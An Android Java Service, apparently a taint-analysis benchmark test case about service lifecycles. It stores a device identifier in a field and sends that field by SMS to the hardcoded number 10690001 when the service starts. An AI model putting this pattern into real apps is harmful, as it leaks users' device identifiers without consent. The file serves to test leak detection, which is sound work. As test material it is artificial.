package cn.shanhai.servicelifecycle;

import android.app.Service;
import android.content.Intent;
import android.os.IBinder;
import android.telephony.SmsManager;

public class SendService extends Service {
  private String id = "none";

  @Override
  public void onCreate() {
    super.onCreate();
    id = "v1";
  }

  @Override
  public int onStartCommand(Intent intent, int flags, int startId) {
    SmsManager.getDefault().sendTextMessage("10690001", null, id, null, null);
    return START_NOT_STICKY;
  }

  @Override
  public void onDestroy() {
    super.onDestroy();
    id = Device.id(this);
  }

  @Override
  public IBinder onBind(Intent intent) {
    return null;
  }
}
